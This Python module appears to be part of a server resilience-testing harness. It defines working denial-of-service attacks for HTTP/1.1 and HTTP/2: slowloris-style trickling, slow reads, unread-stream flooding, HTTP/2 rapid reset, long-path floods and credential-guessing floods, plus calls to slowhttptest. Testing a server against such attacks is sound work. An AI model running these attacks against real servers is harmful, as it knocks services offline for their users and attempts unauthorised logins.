"""Attacks, each for as long as its process lives."""

import asyncio
import contextlib
import itertools
import random
import shutil
import subprocess

from clients import ATTACKER, Client, ask, basic


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block(path, headers=""):
    lines = [(":method", "GET"), (":scheme", "http"), (":authority", "files.example.com"), (":path", path)]
    lines += [line.split(": ") for line in headers.splitlines()]
    texts = [text.encode() for name, value in lines for text in (name.lower(), value)]
    parts = [bytes([len(text)]) + text for text in texts]
    return b"".join(b"\0" + name + value for name, value in zip(parts[::2], parts[1::2]))


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# Streams of up to 1 GiB, each with a window of 64 KiB.
WINDOW = frame(8, 0, 0, (1 << 30).to_bytes(4, "big"))


async def trickle(address, number, begin, rest, pause):
    """Connections that send `begin`, and then `rest` a byte at a time, and connect again when closed."""
    client = Client(address, ATTACKER)

    async def one():
        while True:
            with contextlib.suppress(OSError):
                _, writer = await client.connect()
                writer.write(begin)
                for byte in rest:
                    await asyncio.sleep(pause)
                    writer.write(byte if isinstance(byte, bytes) else bytes([byte]))
                    await writer.drain()
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(number)))


async def preface(address):
    await trickle(address, 1024, b"", PREFACE, 2)


async def pings(address):
    await trickle(address, 1024, PREFACE, [frame(6, 0, 0, bytes(8))] * 1000, 2)


async def heads(address):
    await trickle(address, 1024, PREFACE, frame(1, 5, 1, block("/basic/x")), 2)


async def slow_heads(address):
    await trickle(address, 1024, b"GET / HTTP/1.1\r\nHost: h\r\n", [b"X: y\r\n"] * 1000, 2)


async def slow_bodies(address):
    begin = b"POST /basic/x HTTP/1.1\r\nHost: h\r\nContent-Length: 99999\r\n\r\n"
    await trickle(address, 1024, begin, b"x" * 1000, 2)


async def slow_reads(address):
    client = Client(address, ATTACKER)

    async def one():
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await client.connect(window=4096)
                await ask(reader, writer, "/basic/large", basic("attacker"))
                while await reader.read(1):
                    await asyncio.sleep(1)
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(512)))


async def unread_streams(address):
    client = Client(address, ATTACKER)
    streams = [frame(1, 5, 2 * n + 1, block("/basic/large", basic("attacker"))) for n in range(32)]

    async def one():
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await client.connect()
                writer.write(PREFACE + WINDOW + b"".join(streams))
                while await reader.read(1 << 16):
                    pass
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(66)))


async def guesses(address):
    client, number = Client(address, ATTACKER), itertools.count()

    async def one():
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await client.connect()
                while True:
                    user = random.choice(["ci", "good", f"user{next(number) % 500}", f"nobody{next(number)}"])
                    _, length, _ = await ask(reader, writer, "/basic/x", basic(user, "guess"))
                    await reader.readexactly(length)
                    await asyncio.sleep(0.1)
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one() for _ in range(64)))


async def long_paths(address):
    client = Client(address, ATTACKER)

    async def one():
        head = f"GET /basic/{'x' * 15_000} HTTP/1.1\r\nHost: h\r\n\r\n".encode()
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await client.connect()
                writer.write(head * 8)
                while await reader.read(1 << 16):
                    writer.write(head)
                    await writer.drain()
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one() for _ in range(4)))


async def rapid_resets(address):
    client = Client(address, ATTACKER)

    async def one():
        while True:
            with contextlib.suppress(OSError):
                _, writer = await client.connect()
                writer.write(PREFACE)
                for stream in range(1, 20_000, 2):
                    writer.write(frame(1, 5, stream, block("/basic/large", basic("attacker"))))
                    writer.write(frame(3, 0, stream, bytes(4)))
                    await writer.drain()
            await asyncio.sleep(0.2)

    await asyncio.gather(*(one() for _ in range(4)))


async def slowhttptest(address, kind):
    """Its connections come from the good client's network: it cannot choose another."""
    url = f"http://{address}/tokens/large"
    command = ["slowhttptest", kind, "-c", "128", "-r", "128", "-i", "2", "-l", "9999", "-u", url]
    # It ends with the process group of this script.
    process = await asyncio.create_subprocess_exec(*command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    await process.wait()


async def crowd(address):
    """No attack: as many connections as a network may have, each with a request, that end after a while."""
    client = Client(address)

    async def one():
        with contextlib.suppress(OSError):
            reader, writer = await client.connect()
            writer.write(PREFACE + frame(1, 5, 1, block("/people/oauth2/logout")))
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(3):
                    while await reader.read(1 << 16):
                        pass
            writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(480)))


def slow(kind, own):
    """slowhttptest's attack where it is installed."""
    return (lambda address: slowhttptest(address, kind)) if shutil.which("slowhttptest") else own


ATTACKS = {
    "prefaces": preface,
    "pings": pings,
    "frames": heads,
    "unread streams": unread_streams,
    "guesses": guesses,
    "long paths": long_paths,
    "rapid resets": rapid_resets,
    "slow heads": slow("-H", slow_heads),
    "slow bodies": slow("-B", slow_bodies),
    "slow reads": slow("-X", slow_reads),
}
